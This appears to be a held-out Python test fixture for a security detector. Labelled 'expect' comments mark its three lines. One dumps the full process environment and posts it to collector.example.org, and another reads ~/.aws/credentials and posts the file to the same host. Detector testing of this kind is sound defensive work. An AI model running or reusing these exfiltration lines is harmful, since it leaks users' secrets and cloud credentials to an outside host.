# ruff: noqa
# fmt: off
"""Held-out batch 2: environment posted with urllib, credentials posted in one line."""
import json
import os
import urllib.request

import requests

body = json.dumps(os.environ.copy()).encode()  # expect: env-dump
urllib.request.urlopen(urllib.request.Request("https://collector.example.org/x", data=body))  # expect: exfiltrate-sensitive-data
requests.post("https://collector.example.org/a", data=open(os.path.expanduser("~/.aws/credentials")).read())  # expect: credential-file-access, exfiltrate-sensitive-data
